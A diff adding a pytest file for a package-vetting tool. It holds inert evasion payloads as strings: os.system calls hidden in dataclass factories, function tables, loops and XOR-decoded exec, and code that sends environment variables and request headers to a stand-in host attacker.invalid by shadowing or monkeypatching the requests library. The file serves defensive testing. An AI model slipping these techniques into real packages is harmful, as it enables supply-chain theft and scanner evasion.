@@ -1,0 +1,189 @@
+"""Payloads a patient adversary tries after reading ADR 0067's list of what is still allowed
+(ADR 0071): code run through a dataclass field's factory, through a table of functions
+called with a key that does not fold or in a loop, commands kept in a class's body, and an
+XOR table built by a loop.
+
+Each sample is inert (a command ``id``, a host ``attacker.invalid``, never run or installed:
+vetting only reads files) and each was allowed on 09c35d5. Each near-miss is written the
+way real packages write the same construct, and stays allowed."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from airlock.imports.packages.vet import vet
+from scripts.make_test_packages import wheel
+
+RUN = "os.system('id')"
+POST = "urllib.request.urlopen('http://attacker.invalid/x', data={data})"
+
+
+def _xored(text: str, key: int) -> list[int]:
+    return [b ^ key for b in text.encode()]
+
+
+def _vet_wheel(files: Mapping[str, str]) -> Outcome:
+    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files))).verdict
+
+
+def _init(text: str) -> dict[str, str]:
+    return {"evpkg/__init__.py": text}
+
+
+EVASIONS: dict[str, dict[str, str]] = {
+    # The generated ``__init__`` calls the factory; no call of ``f`` is written.
+    "dataclass-default-factory": _init(
+        f"import os\nfrom dataclasses import dataclass, field\n\n\ndef f():\n    {RUN}\n"
+        "    return 1\n\n\n@dataclass\nclass C:\n    x: int = field(default_factory=f)\n\n\nC()\n"
+    ),
+    "dataclass-default-factory-lambda": _init(
+        "import os, dataclasses\n\n\n@dataclasses.dataclass\nclass C:\n"
+        "    x: int = dataclasses.field(default_factory=lambda: os.system('id'))\n\n\n"
+        "INSTANCE = C()\n"
+    ),
+    "attrs-factory": _init(
+        f"import attr, os\n\n\ndef f():\n    {RUN}\n\n\n@attr.s\nclass C:\n"
+        "    x = attr.ib(default=attr.Factory(f))\n\n\nC()\n"
+    ),
+    "table-called-with-a-key-that-does-not-fold": _init(
+        "import os, sys\nH = {'a': lambda: os.system('id')}\nH[sys.platform[:0] + 'a']()\n"
+    ),
+    "table-of-functions-called-with-the-environments-key": _init(
+        "import os, urllib.request\n\n\ndef send(d):\n"
+        f"    {POST.format(data='d')}\n\n\n"
+        "H = {'s': send}\nH[os.environ.get('MODE', 's')](str(dict(os.environ)).encode())\n"
+    ),
+    "list-of-lambdas-by-index": _init("import os\nL = [lambda: os.system('id')]\nL[0]()\n"),
+    "list-of-lambdas-in-a-loop": _init(
+        "import os\nL = [lambda: os.system('id')]\nfor f in L:\n    f()\n"
+    ),
+    "table-values-in-a-loop": _init(
+        "import os\nH = {'a': lambda: os.system('id')}\nfor f in H.values():\n    f()\n"
+    ),
+    "table-items-in-a-loop": _init(
+        "import os\nH = {'id': os.system}\nfor k, f in H.items():\n    f(k)\n"
+    ),
+    "commands-in-a-class-attribute": _init(
+        "import os\n\n\nclass C:\n    cmds = ['id']\n\n\nfor c in C.cmds:\n    os.system(c)\n"
+    ),
+    "commands-in-a-class-attribute-read-through-self": _init(
+        "import os\n\n\nclass C:\n    cmds = ['id']\n\n    def __init__(self):\n"
+        "        for c in self.cmds:\n            os.system(c)\n\n\nC()\n"
+    ),
+    "code-in-a-class-attribute": _init(
+        "class C:\n    code = \"import os; os.system('id')\"\n\n\nexec(C.code)\n"
+    ),
+    "xor-table-built-by-a-loop": _init(
+        "K = 7\nT = {}\nfor i in range(256):\n    T[i] = i ^ K\n"
+        f"D = bytes({_xored('import os;os.system(' + repr('id') + ')', 7)})\n"
+        "exec(bytes(T[b] for b in D))\n"
+    ),
+    # Every ``import requests`` in the environment gets the archive's module (ADR 0071).
+    "library-module-shadowed-by-a-module-of-the-archive": {
+        "evpkg/__init__.py": "import sys\nfrom . import fake\nsys.modules['requests'] = fake\n",
+        "evpkg/fake.py": (
+            "import urllib.request\n\n\ndef get(url, **kw):\n"
+            f"    {POST.format(data='str(kw).encode()')}\n"
+        ),
+    },
+    "library-module-shadowed-by-an-instance": _init(
+        "import os, sys\n\n\nclass R:\n    def get(self, url, **kw):\n"
+        f"        {RUN}\n\n\nsys.modules['requests'] = R()\n"
+    ),
+    # ADR 0067's sample sent to a named host instead of an IP literal: what the replaced
+    # function is given (other packages' requests) is sent away.
+    "replaced-function-sends-what-it-is-given": _init(
+        "import requests, urllib.request\n_send = requests.Session.send\n\n\n"
+        "def send(self, req, **kw):\n"
+        f"    {POST.format(data='str(req.headers).encode()')}\n"
+        "    return _send(self, req, **kw)\n\n\nrequests.Session.send = send\n"
+    ),
+    "replaced-function-sends-its-packed-arguments": _init(
+        "import requests, urllib.request\n_get = requests.get\n\n\n"
+        f"def get(*a, **kw):\n    {POST.format(data='str(kw).encode()')}\n"
+        "    return _get(*a, **kw)\n\n\nrequests.get = get\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("key", sorted(EVASIONS))
+def test_a_payload_the_walk_did_not_reach_is_not_allowed(key: str) -> None:
+    assert _vet_wheel(EVASIONS[key]) is not Outcome.ALLOW
+
+
+NEAR_MISSES: dict[str, dict[str, str]] = {
+    "dataclass-factories": _init(
+        "import dataclasses\nfrom dataclasses import dataclass, field\n\n\n"
+        "def _defaults():\n    return {'a': 1}\n\n\n@dataclass\nclass C:\n"
+        "    xs: list = field(default_factory=list)\n"
+        "    d: dict = dataclasses.field(default_factory=_defaults)\n\n\nDEFAULT = C()\n"
+    ),
+    "attrs-factories": _init(
+        "import attr\n\n\n@attr.s\nclass C:\n    xs = attr.ib(factory=list)\n"
+        "    ys = attr.ib(default=attr.Factory(dict))\n\n\nC()\n"
+    ),
+    "environment-defaults-from-a-class-attribute": _init(
+        "import os\n\n\nclass C:\n    NAMES = ['A', 'B']\n\n\nfor n in C.NAMES:\n"
+        "    os.environ.setdefault(n, '1')\n"
+    ),
+    # A command a method runs when called, not on import.
+    "command-kept-in-a-class-attribute": _init(
+        "import subprocess\n\n\nclass Git:\n    cmd = ['git', '--version']\n\n"
+        "    def version(self):\n        return subprocess.check_output(self.cmd)\n"
+    ),
+    "platform-openers-called-in-a-function": _init(
+        "import subprocess, sys\nOPENERS = {\n"
+        "    'darwin': lambda p: subprocess.call(['open', p]),\n"
+        "    'linux': lambda p: subprocess.call(['xdg-open', p]),\n}\n\n\n"
+        "def open_file(p):\n    OPENERS[sys.platform](p)\n"
+    ),
+    "harmless-table-called-with-the-environments-key": _init(
+        "import os\n\n\ndef _a(x):\n    return x + 1\n\n\ndef _b(x):\n    return x * 2\n\n\n"
+        "H = {'a': _a, 'b': _b}\nN = H[os.environ.get('MODE', 'a')](3)\n"
+    ),
+    "setup-callbacks-in-a-loop": _init(
+        "import logging\n\n\ndef _setup():\n"
+        "    logging.getLogger(__name__).addHandler(logging.NullHandler())\n\n\n"
+        "def _register():\n    return None\n\n\n_HOOKS = [_setup, _register]\n"
+        "for hook in _HOOKS:\n    hook()\n"
+    ),
+    "xor-table-of-data-built-by-a-loop": _init(
+        "T = {}\nfor i in range(256):\n    T[i] = i ^ 0x5A\nDATA = bytes(T[b] for b in b'hello')\n"
+    ),
+    "own-module-under-another-of-its-names": {
+        "evpkg/__init__.py": (
+            "import sys\nfrom . import _compat\nsys.modules['evpkg.compat'] = _compat\n"
+            "sys.modules[__name__ + '.moves'] = _compat\n"
+        ),
+        "evpkg/_compat.py": (
+            "import urllib.request\n\n\ndef fetch(url):\n"
+            "    return urllib.request.urlopen(url).read()\n"
+        ),
+    },
+    "library-under-another-librarys-name": _init(
+        "import json, sys\nsys.modules['simplejson'] = json\n"
+    ),
+    "harmless-shim-under-a-librarys-name": _init(
+        "import sys\n\n\nclass _Shim:\n    def get(self, url):\n        return None\n\n\n"
+        "sys.modules['backport_x'] = _Shim()\n"
+    ),
+    # A wrapper that hands the call on to the original it saved.
+    "timeout-default-patched-over-requests-get": _init(
+        "import requests\n_orig = requests.get\n\n\ndef get(*a, **kw):\n"
+        "    kw.setdefault('timeout', 10)\n    return _orig(*a, **kw)\n\n\nrequests.get = get\n"
+    ),
+    "timeout-default-patched-over-session-request": _init(
+        "import requests\n_request = requests.Session.request\n\n\n"
+        "def request(self, method, url, *a, **kw):\n    kw.setdefault('timeout', 10)\n"
+        "    return _request(self, method, url, *a, **kw)\n\n\n"
+        "requests.Session.request = request\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("key", sorted(NEAR_MISSES))
+def test_the_same_construct_written_as_real_packages_write_it_stays_allowed(key: str) -> None:
+    assert _vet_wheel(NEAR_MISSES[key]) is Outcome.ALLOW
